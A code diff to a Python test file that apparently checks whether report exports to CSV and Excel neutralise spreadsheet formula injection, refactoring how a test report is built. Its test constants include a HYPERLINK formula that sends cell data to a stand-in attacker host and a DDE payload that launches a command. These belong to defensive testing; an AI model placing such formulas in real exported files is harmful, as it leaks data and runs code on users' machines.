@@ -10,7 +10,7 @@ numbers and dates.
 import csv
 import io
 import zipfile
-from datetime import date
+from dataclasses import replace
 
 import pytest
 from openpyxl import load_workbook
@@ -23,9 +23,8 @@ from render import exports
 from services.admin import directives, organizations
 from services.core import clock
 from services.read import audit_log, briefing, snapshot
-from services.reporting.reports import ReportInput
 from tests.services.reporting_db import BACKENDS, actor, demo_database
-from tests.services.test_reporting import submit
+from tests.services.test_reporting import GOOD, submit
 
 LEAK = '=HYPERLINK("http://attacker.example/?leak="&C7&D7,"Xem")'
 CALC = "=cmd|' /C calc'!A0"
@@ -46,15 +45,13 @@ def db(request, tmp_path_factory):
         office = actor(engine, "vanphong")
         submit(
             engine,
-            ReportInput(
-                period="2022-Q4",
-                status="in_progress",
-                percent=70,
+            replace(
+                GOOD,
                 result=LEAK,
                 difficulties=CALC,
                 proposals=PLUS,
                 evidence_number=AT,
-                evidence_date=date(2022, 11, 20),
+                evidence_link="",
             ),
         )
         with session_scope(engine) as s:
